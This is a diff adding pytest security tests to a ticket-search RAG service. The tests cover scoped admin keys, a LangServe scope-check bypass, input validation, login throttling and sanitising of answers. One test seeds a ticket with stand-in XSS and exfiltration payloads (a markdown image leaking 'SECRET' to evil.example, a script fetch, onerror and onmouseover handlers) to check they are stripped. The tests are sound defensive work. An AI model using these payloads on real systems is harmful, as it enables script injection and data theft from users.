@@ -12,7 +12,8 @@ from pydantic import SecretStr
 
 from server import create_app
 from tests.conftest import make_settings
-from ticket_rag.settings import ConfigError, Settings
+from ticket_rag.errors import ConfigError
+from ticket_rag.settings import Settings
 
 ADMIN = "admin-key-0123456789abcdefghijkl"
 TICKET = {"title": "Password reset link expired", "description": "The reset link says it has expired.", "status": "resolved"}
@@ -164,3 +165,125 @@ def test_production_disables_the_playground(settings: Settings, embeddings: Embe
         assert client.get("/rag/playground/", headers={"X-API-Key": ADMIN}).status_code == 404
         assert client.get("/tickets/").status_code == 401
         assert client.get("/tickets/", headers={"X-API-Key": ADMIN}).status_code == 200
+
+
+def test_a_scoped_admin_acts_only_within_its_collections(secured: TestClient) -> None:
+    admin = {"X-API-Key": ADMIN}
+    for name in ("acme", "globex"):
+        assert secured.post("/collections", json={"name": name}, headers=admin).status_code == 201
+    acme_admin = {"X-API-Key": _key(secured, 3, "acme")}
+    globex_reader = _key(secured, 1, "globex")
+    everywhere = _key(secured, 1, "*")
+
+    for collections in (["*"], ["globex"], ["acme", "globex"]):
+        refused = secured.post("/admin/keys", json={"name": "x", "role": 1, "collections": collections}, headers=acme_admin)
+        assert refused.status_code == 403, (collections, refused.text)
+    granted = secured.post("/admin/keys", json={"name": "x", "role": 3, "collections": ["acme"]}, headers=acme_admin)
+    assert granted.status_code == 201 and granted.json()["collections"] == ["acme"]
+
+    listed = {k["key_id"]: k["collections"] for k in secured.get("/admin/keys", headers=acme_admin).json()}
+    assert all(c == ["acme"] for c in listed.values()) and granted.json()["key_id"] in listed
+    for other in (globex_reader, everywhere):
+        key_id = other.split("_")[1]
+        assert key_id not in listed
+        assert secured.delete(f"/admin/keys/{key_id}", headers=acme_admin).status_code == 404
+        assert secured.get("/collections", headers={"X-API-Key": other}).status_code == 200  # still valid
+    assert secured.delete("/collections/globex", headers=acme_admin).status_code == 404
+    assert secured.get("/metrics", headers=acme_admin).status_code == 403  # metrics span every collection
+    # the unscoped admin still sees and manages every key
+    assert len(secured.get("/admin/keys", headers=admin).json()) == 4
+
+
+@pytest.mark.parametrize(
+    ("path", "body"),
+    [
+        ("/rag/invoke", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
+        ("/rag/stream", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
+        ("/rag/stream_log", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
+        ("/rag/stream_events", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
+        ("/retriever/invoke", {"input": {"query": "reset password", "collection": "globex"}, "inputs": []}),
+        ("/rag/batch", {"inputs": [{"question": "reset password", "collection": "acme"}], "input": {"question": "x"}}),
+    ],
+)
+def test_a_langserve_body_with_fields_its_endpoint_does_not_read_is_refused(
+    secured: TestClient, path: str, body: dict[str, object]
+) -> None:
+    """The scope check reads what LangServe runs: `inputs` beside `input` was a way around it (issue 13)."""
+    admin = {"X-API-Key": ADMIN}
+    for name in ("acme", "globex"):
+        secured.post("/collections", json={"name": name}, headers=admin)
+    secured.post("/tickets/", json={**TICKET, "title": "GLOBEX-ONLY reset", "collection": "globex"}, headers=admin)
+    acme_reader = {"X-API-Key": _key(secured, 1, "acme")}
+    response = secured.post(path, json=body, headers=acme_reader)
+    assert response.status_code == 422, response.text
+    assert "GLOBEX-ONLY" not in response.text
+    extra = "input" if path.endswith("/batch") else "inputs"
+    assert any(error["loc"] == ["body", extra] for error in response.json()["detail"]), response.json()
+
+
+def test_a_misspelt_input_field_is_refused_not_answered_from_the_default_collection(secured: TestClient) -> None:
+    admin = {"X-API-Key": ADMIN}
+    response = secured.post("/rag/invoke", json={"input": {"question": "x", "colection": "acme"}}, headers=admin)
+    assert response.status_code == 422
+    assert any(error["loc"][-1] == "colection" for error in response.json()["detail"])
+
+
+def test_the_retriever_refuses_k_above_the_cap_like_the_chain(secured: TestClient) -> None:
+    admin = {"X-API-Key": ADMIN}
+    response = secured.post("/retriever/invoke", json={"input": {"query": "x", "k": 50}}, headers=admin)
+    assert response.status_code == 422
+    assert response.json()["detail"][0]["loc"] == ["body", "input", "k"]
+    assert secured.post("/retriever/invoke", json={"input": {"query": "x", "k": 20}}, headers=admin).status_code == 200
+
+
+def test_failed_authentication_is_throttled_per_address(secured: TestClient) -> None:
+    codes = [secured.get("/tickets/", headers={"X-API-Key": f"trk_dead{n}_beef"}).status_code for n in range(12)]
+    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429], codes
+    # once throttled, the address is refused before any key is looked at, even a valid one
+    limited = secured.get("/tickets/", headers={"X-API-Key": ADMIN})
+    assert limited.status_code == 429 and int(limited.headers["retry-after"]) >= 1
+
+
+def test_production_serves_the_api_description_only_with_a_key(settings: Settings, embeddings: Embeddings) -> None:
+    settings = settings.model_copy(update={"environment": "production", "admin_api_key": SecretStr(ADMIN)})
+    with TestClient(create_app(settings, embeddings=embeddings)) as client:
+        assert client.get("/docs").status_code == 404
+        assert client.get("/redoc").status_code == 404
+        assert client.get("/openapi.json").status_code == 401
+        described = client.get("/openapi.json", headers={"X-API-Key": ADMIN})
+        assert described.status_code == 200 and "/tickets/search" in described.json()["paths"]
+
+
+def test_generation_off_answer_carries_no_markup_from_tickets(settings: Settings, embeddings: Embeddings) -> None:
+    """With LLM_PROVIDER=none the answer lists tickets: their text is untrusted, so it is sanitised like any answer."""
+    poisoned = {
+        "title": "![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> VPN drops",
+        "description": "VPN drops every hour. <script>fetch('https://evil.example')</script>",
+        "resolution": "See [this](https://evil.example/steal) and <div onmouseover=alert(1)>restart</div> the client.",
+        "status": "resolved",
+    }
+    with TestClient(create_app(settings, embeddings=embeddings, llm=None)) as client:
+        client.post("/tickets/", json=poisoned)
+        output = client.post("/rag/invoke", json={"input": {"question": "VPN drops every hour"}}).json()["output"]
+    answer = output["answer"]
+    assert "VPN drops" in answer and "restart" in answer
+    for bad in ("evil.example", "<img", "onerror", "<script", "onmouseover", "!["):
+        assert bad not in answer, (bad, answer)
+    assert "evil.example" in output["sources"][0]["title"]  # sources carry the raw text, as stored
+
+
+def test_an_oversized_streamed_body_is_413_without_an_error_in_the_log(
+    settings: Settings, embeddings: Embeddings, caplog: pytest.LogCaptureFixture
+) -> None:
+    settings = settings.model_copy(update={"max_body_bytes": 10_000})
+
+    def chunks() -> Iterator[bytes]:
+        yield b'{"title": "'
+        for _ in range(40):
+            yield b"x" * 1000
+        yield b'"}'
+
+    with TestClient(create_app(settings, embeddings=embeddings)) as client:
+        response = client.post("/tickets/", content=chunks(), headers={"Content-Type": "application/json"})
+        assert response.status_code == 413
+    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")], caplog.text
